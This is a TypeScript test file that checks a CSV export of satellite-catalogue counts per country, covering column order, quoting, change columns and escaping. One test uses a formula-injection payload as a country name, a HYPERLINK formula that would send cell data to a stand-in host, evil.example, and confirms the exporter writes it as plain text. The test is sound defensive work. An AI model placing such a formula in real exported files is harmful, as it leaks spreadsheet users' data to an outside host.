import { describe, expect, it } from 'vitest';
import { withChanges } from './table-rows.ts';
import { tableCsv } from './table-csv.ts';
import { realBoxscore } from '../../test-support/real-boxscore.ts';

const WORLD = realBoxscore.totals.counts.orbitalTotal;

describe('tableCsv', () => {
  it('writes the visible columns, in the order given, with a BOM and CRLF, the derived figures as plain numbers', () => {
    const rows = withChanges(
      realBoxscore.rows.filter((r) => ['SES', 'FR'].includes(r.code ?? '')),
      undefined,
      WORLD,
    );
    const csv = tableCsv(rows, ['orbitalTba', 'decayedPayload', 'decayedRocketBody', 'decayedDebris', 'decayedTotal', 'countryTotal'], null);
    const lines = csv.slice(1).split('\r\n');
    expect(csv.startsWith('\uFEFF')).toBe(true);
    expect(lines[0]).toBe('Country,Code,Orbital payload,Orbital rocket body,Orbital debris,Orbital total,Share of world in orbit (%),Debris per payload');
    // France: 510 of the world's 17,094 in orbit (2.98%), 314 debris / 60 payloads (5.233); SES has no debris.
    expect(lines.slice(1, 3).sort()).toEqual(['FRANCE,FR,60,136,314,510,2.98,5.233', 'SOCIÉTÉ EUROPÉENNE DES SATELLITES,SES,54,0,0,54,0.32,0']);
  });

  it('puts each change beside its count, for every count shown, and leaves unknown values empty', () => {
    const row = { ...realBoxscore.rows.find((r) => r.code === 'US')!, country: 'UNITED STATES, "US"', missing: ['orbitalTba' as const] };
    const [withChange] = withChanges(
      [row],
      [
        {
          country: row.country,
          code: 'US',
          status: 'changed',
          from: row.counts,
          to: row.counts,
          delta: { orbitalTba: 0, orbitalPayload: 2, orbitalRocketBody: 0, orbitalDebris: -1, orbitalTotal: 1, decayedPayload: 3, decayedRocketBody: 0, decayedDebris: 4, decayedTotal: 7, countryTotal: 8 },
        },
      ],
      WORLD,
    );
    const csv = tableCsv([withChange!], ['orbitalPayload', 'orbitalRocketBody', 'orbitalDebris', 'orbitalTotal', 'decayedRocketBody', 'countryTotal', 'worldShare', 'debrisPerPayload'], '2015-02-23');
    const [header, line] = csv.slice(1).split('\r\n');
    expect(header).toBe(
      'Country,Code,Orbital TBA,Change in orbital TBA objects since 2015-02-23,Decayed payload,Change in decayed payloads since 2015-02-23,' +
        'Decayed debris,Change in decayed debris since 2015-02-23,Decayed total,Change in decayed total since 2015-02-23',
    );
    expect(line).toBe('"UNITED STATES, ""US""",US,,0,877,3,4352,4,5881,7');
  });

  it('a hostile name or code is written as text, never a formula, while the negative changes stay numbers', () => {
    const fr = realBoxscore.rows.find((r) => r.code === 'FR')!;
    const row = { ...fr, country: '=HYPERLINK("http://evil.example/?"&A1,"Details")', code: '-1+1' };
    const delta = { orbitalTba: 0, orbitalPayload: -2, orbitalRocketBody: 0, orbitalDebris: -10, orbitalTotal: -12, decayedPayload: 0, decayedRocketBody: 0, decayedDebris: 0, decayedTotal: 0, countryTotal: -12 };
    const [shown] = withChanges([row], [{ country: row.country, code: row.code, status: 'changed', from: fr.counts, to: fr.counts, delta }], WORLD);
    const hidden = ['orbitalTba', 'orbitalRocketBody', 'orbitalDebris', 'decayedPayload', 'decayedRocketBody', 'decayedDebris', 'decayedTotal', 'worldShare', 'debrisPerPayload'] as const;
    const [, line] = tableCsv([shown!], hidden, '2015-02-23').slice(1).split('\r\n');
    expect(line).toBe(`"'=HYPERLINK(""http://evil.example/?""&A1,""Details"")",'-1+1,60,-2,510,-12,1215,-12`);
  });
});
